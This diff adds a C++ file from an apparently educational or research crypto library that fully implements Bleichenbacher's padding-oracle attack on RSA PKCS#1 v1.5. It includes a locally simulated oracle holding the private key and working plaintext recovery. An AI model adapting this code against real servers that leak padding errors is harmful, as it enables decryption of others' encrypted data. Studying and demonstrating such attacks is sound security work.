@@ -1,0 +1,176 @@
+#include "mapsec/attack/bleichenbacher.hpp"
+
+#include <utility>
+#include <vector>
+
+#include "mapsec/crypto/modexp.hpp"
+
+namespace mapsec::attack {
+
+using crypto::BigInt;
+
+PaddingOracle::PaddingOracle(crypto::RsaPrivateKey key,
+                             Strictness strictness)
+    : key_(std::move(key)), strictness_(strictness) {}
+
+bool PaddingOracle::conforming(const BigInt& ciphertext) {
+  ++queries_;
+  if (ciphertext >= key_.n) return false;
+  const crypto::Bytes em =
+      crypto::rsa_private_op_crt(key_, ciphertext)
+          .to_bytes_be(key_.modulus_bytes());
+  if (em[0] != 0x00 || em[1] != 0x02) return false;
+  if (strictness_ == Strictness::kPrefixOnly) return true;
+  // Full check: >= 8 nonzero padding bytes then a zero separator.
+  for (std::size_t i = 2; i < em.size(); ++i) {
+    if (em[i] == 0x00) return i >= 10;
+  }
+  return false;
+}
+
+namespace {
+
+BigInt ceil_div(const BigInt& a, const BigInt& b) {
+  BigInt q, r;
+  BigInt::divmod(a, b, q, r);
+  if (!r.is_zero()) q += BigInt(1);
+  return q;
+}
+
+BigInt floor_div(const BigInt& a, const BigInt& b) { return a / b; }
+
+/// a - b clamped at zero (all quantities here are unsigned).
+BigInt sub_clamped(const BigInt& a, const BigInt& b) {
+  return a >= b ? a - b : BigInt(0);
+}
+
+struct Interval {
+  BigInt a, b;
+};
+
+}  // namespace
+
+BleichenbacherResult bleichenbacher_attack(const crypto::RsaPublicKey& pub,
+                                           crypto::ConstBytes ciphertext,
+                                           PaddingOracle& oracle,
+                                           std::uint64_t max_queries) {
+  BleichenbacherResult result;
+  const std::size_t k = pub.modulus_bytes();
+  const BigInt n = pub.n;
+  const crypto::Montgomery mont(n);
+
+  const BigInt B = BigInt(1) << (8 * (k - 2));
+  const BigInt B2 = BigInt(2) * B;
+  const BigInt B3 = BigInt(3) * B;
+
+  const BigInt c0 = BigInt::from_bytes_be(ciphertext);
+  const std::uint64_t base_queries = oracle.queries();
+  const auto budget_left = [&] {
+    return oracle.queries() - base_queries < max_queries;
+  };
+  // Query helper: is c0 * s^e conforming?
+  const auto probe = [&](const BigInt& s) {
+    const BigInt c = (c0 * mont.exp(s, pub.e)) % n;
+    return oracle.conforming(c);
+  };
+
+  // The captured ciphertext is valid, so m0 is in [2B, 3B-1] already.
+  std::vector<Interval> m = {{B2, B3 - BigInt(1)}};
+
+  // Step 2a: smallest s1 >= n / 3B with a conforming product.
+  BigInt s = ceil_div(n, B3);
+  while (budget_left() && !probe(s)) s += BigInt(1);
+  if (!budget_left()) {
+    result.oracle_queries = oracle.queries() - base_queries;
+    return result;
+  }
+
+  for (;;) {
+    // Step 3: narrow the interval set with the found s.
+    std::vector<Interval> next;
+    for (const Interval& iv : m) {
+      const BigInt r_low = ceil_div(
+          sub_clamped(iv.a * s + BigInt(1), B3), n);
+      const BigInt r_high = floor_div(sub_clamped(iv.b * s, B2), n);
+      for (BigInt r = r_low; r <= r_high; r += BigInt(1)) {
+        BigInt na = ceil_div(B2 + r * n, s);
+        BigInt nb = floor_div(B3 - BigInt(1) + r * n, s);
+        if (na < iv.a) na = iv.a;
+        if (nb > iv.b) nb = iv.b;
+        if (na <= nb) {
+          // Merge adjacent/duplicate intervals.
+          bool merged = false;
+          for (auto& existing : next) {
+            if (!(nb < existing.a || na > existing.b)) {
+              if (na < existing.a) existing.a = na;
+              if (nb > existing.b) existing.b = nb;
+              merged = true;
+              break;
+            }
+          }
+          if (!merged) next.push_back({na, nb});
+        }
+      }
+    }
+    m = std::move(next);
+    if (m.empty()) {
+      // Should not happen for a genuine ciphertext; bail out cleanly.
+      result.oracle_queries = oracle.queries() - base_queries;
+      return result;
+    }
+
+    // Step 4: solved?
+    if (m.size() == 1 && m[0].a == m[0].b) {
+      const crypto::Bytes em = m[0].a.to_bytes_be(k);
+      // Strip 00 02 | padding | 00 | message.
+      std::size_t sep = 0;
+      for (std::size_t i = 2; i < em.size(); ++i) {
+        if (em[i] == 0x00) {
+          sep = i;
+          break;
+        }
+      }
+      if (sep != 0) {
+        result.success = true;
+        result.recovered_message.assign(
+            em.begin() + static_cast<std::ptrdiff_t>(sep + 1), em.end());
+      }
+      result.oracle_queries = oracle.queries() - base_queries;
+      return result;
+    }
+
+    // Step 2b / 2c: find the next s.
+    if (m.size() > 1) {
+      do {
+        s += BigInt(1);
+        if (!budget_left()) {
+          result.oracle_queries = oracle.queries() - base_queries;
+          return result;
+        }
+      } while (!probe(s));
+    } else {
+      const BigInt& a = m[0].a;
+      const BigInt& b = m[0].b;
+      BigInt r = ceil_div(BigInt(2) * sub_clamped(b * s, B2), n);
+      bool found = false;
+      while (!found) {
+        const BigInt s_low = ceil_div(B2 + r * n, b);
+        const BigInt s_high = floor_div(B3 + r * n, a);
+        for (BigInt cand = s_low; cand <= s_high; cand += BigInt(1)) {
+          if (!budget_left()) {
+            result.oracle_queries = oracle.queries() - base_queries;
+            return result;
+          }
+          if (probe(cand)) {
+            s = cand;
+            found = true;
+            break;
+          }
+        }
+        r += BigInt(1);
+      }
+    }
+  }
+}
+
+}  // namespace mapsec::attack
